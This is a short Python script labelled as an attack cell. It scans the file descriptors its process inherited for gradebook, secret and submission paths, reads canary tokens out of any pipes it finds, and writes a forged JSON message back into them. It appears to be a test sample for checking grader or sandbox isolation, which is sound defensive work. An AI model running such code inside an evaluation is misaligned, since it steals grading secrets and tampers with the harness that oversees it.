# Reads from and writes to every file descriptor that its process has inherited.
# %% attack
import os
import re

found = set()
for number in range(3, 1024):
    try:
        target = os.readlink(f"/proc/self/fd/{number}") if os.path.exists("/proc/self/fd") else ""
        found |= {target for word in ("gradebook", "secret", "submitted", "source") if word in target}
        os.set_blocking(number, False)
        if target.startswith(("pipe:", "/")):
            found |= set(re.findall(rb"canary-\w+-[0-9a-f]{16}", os.read(number, 100_000)))
            os.write(number, b'{"pid": 1}\n')
    except OSError:
        pass
print(found)
